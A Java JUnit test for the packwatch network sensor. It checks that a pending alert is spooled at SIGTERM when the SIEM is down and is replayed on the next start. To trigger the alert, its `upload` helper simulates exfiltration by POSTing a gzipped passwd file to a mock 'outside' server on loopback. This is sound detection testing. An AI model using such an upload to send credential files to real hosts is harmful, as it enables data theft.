package io.packwatch.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.packwatch.capture.Libpcap;
import io.packwatch.support.ExfilServer;
import io.packwatch.support.Repo;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * SIGTERM with alerts still pending (the correlator holds a network alert for its endpoint window)
 * and the SIEM unreachable: the sensor writes the alert, spools it for the SIEM and exits 143; the
 * next start delivers the spooled alert before anything else. Needs root and libpcap.
 */
class SigtermSpoolTest {
    @TempDir
    Path tmp;

    private static final ObjectMapper JSON = new ObjectMapper();

    private static List<String> alertIds(Path ndjson) throws Exception {
        List<String> ids = new ArrayList<>();
        for (String l : Files.readAllLines(ndjson)) {
            JsonNode r = JSON.readTree(l);
            if (r.at("/event/dataset").asText().equals("packwatch.alert")) {
                ids.add(r.at("/event/id").asText());
            }
        }
        return ids;
    }

    private static JsonNode stats(Path ndjson) throws Exception {
        List<String> lines = Files.readAllLines(ndjson);
        return JSON.readTree(lines.get(lines.size() - 1)).at("/packwatch/stats");
    }

    private long segments() throws Exception {
        Path spool = tmp.resolve("spool");
        if (!Files.isDirectory(spool)) {
            return 0;
        }
        try (Stream<Path> s = Files.walk(spool)) {
            return s.filter(p -> p.toString().endsWith(".seg")).count();
        }
    }

    /** Uploads passwd.gz from 127.0.0.1 to an "outside" server on 127.0.0.2, as a raw HTTP POST. */
    private static void upload(int port) throws Exception {
        byte[] gz = Files.readAllBytes(Repo.root().resolve("sensor/src/test/resources/art/passwd.gz"));
        try (Socket s = new Socket()) {
            s.bind(new InetSocketAddress("127.0.0.1", 0));
            s.connect(new InetSocketAddress("127.0.0.2", port));
            OutputStream out = s.getOutputStream();
            out.write(("POST /upload/passwd.gz HTTP/1.1\r\nHost: 127.0.0.2\r\nContent-Type: application/gzip\r\n"
                    + "Content-Length: " + gz.length + "\r\nConnection: close\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
            out.write(gz);
            out.flush();
            s.getInputStream().readAllBytes();
        }
    }

    @Test
    void sigtermSpoolsPendingAlertsAndTheNextStartDeliversThem() throws Exception {
        assumeTrue(Libpcap.available(), "libpcap is not installed (apt-get install libpcap0.8)");
        assumeTrue(LiveCaptureTest.isRoot(), "live capture needs root or cap_net_raw,cap_net_admin");
        ExfilServer exfil = ExfilServer.start();
        int siemPort = ExfilServer.freeLoopbackPort(); // nothing listens here during the live run
        String siem = "tcp://127.0.0.1:" + siemPort + "?format=json&framing=lf";
        Path out = tmp.resolve("live.ndjson");
        Path log = tmp.resolve("sensor.log");
        Process sensor = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-cp", System.getProperty("java.class.path"), SensorMain.class.getName(),
                "--interface", "lo", "--filter", "host 127.0.0.2", "--output", out.toString(), "--siem", siem,
                "--set", "sensor.home_networks=127.0.0.1/32", "--set", "alert.min_bytes=64",
                "--set", "siem.spool.path=" + tmp.resolve("spool"))
                .redirectErrorStream(true).redirectOutput(log.toFile()).start();
        try {
            LiveCaptureTest.waitForLine(log, "packwatch: capturing on lo", sensor);
            Thread.sleep(300);
            upload(exfil.port());
            Thread.sleep(800);
            assertEquals(List.of(), alertIds(out), "the alert waits for endpoint evidence (correlate.window_after)");
        } finally {
            sensor.destroy();
            assertTrue(sensor.waitFor(60, TimeUnit.SECONDS), "sensor did not stop on SIGTERM");
            exfil.close();
        }
        String said = Files.readString(log);
        assertEquals(143, sensor.exitValue(), said);
        List<String> ids = alertIds(out);
        assertEquals(1, ids.size(), "the pending alert is written at SIGTERM: " + said);
        JsonNode stats = stats(out);
        assertEquals(1, stats.at("/siem/spooled").asLong(), stats.at("/siem").toString());
        assertEquals(0, stats.at("/siem/sent").asLong());
        assertEquals(1, segments());

        // the next start (here on a file) delivers the spooled alert
        List<String> received = new CopyOnWriteArrayList<>();
        try (ServerSocket receiver = new ServerSocket()) {
            receiver.setReuseAddress(true);
            receiver.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), siemPort));
            Thread reader = new Thread(() -> {
                try (Socket s = receiver.accept(); BufferedReader in = new BufferedReader(
                        new InputStreamReader(s.getInputStream(), StandardCharsets.UTF_8))) {
                    for (String l; (l = in.readLine()) != null; ) {
                        received.add(JSON.readTree(l).at("/event/id").asText());
                    }
                } catch (Exception e) {
                    received.add("receiver failed: " + e);
                }
            });
            reader.start();
            int rc = SensorMain.run("--read", Repo.pcap("http.pcap").toString(), "--output",
                    tmp.resolve("next.ndjson").toString(), "--quiet", "--no-progress", "--siem", siem,
                    "--set", "siem.spool.path=" + tmp.resolve("spool"));
            assertEquals(0, rc);
            reader.join(10_000);
        }
        List<String> expected = new ArrayList<>(ids);
        expected.addAll(alertIds(tmp.resolve("next.ndjson")));
        assertEquals(expected, received, "the spooled alert first, once, then this run's own");
        JsonNode next = stats(tmp.resolve("next.ndjson"));
        assertEquals(1, next.at("/siem/replayed").asLong(), next.at("/siem").toString());
        assertEquals(0, segments(), "a delivered spool is deleted");
    }
}
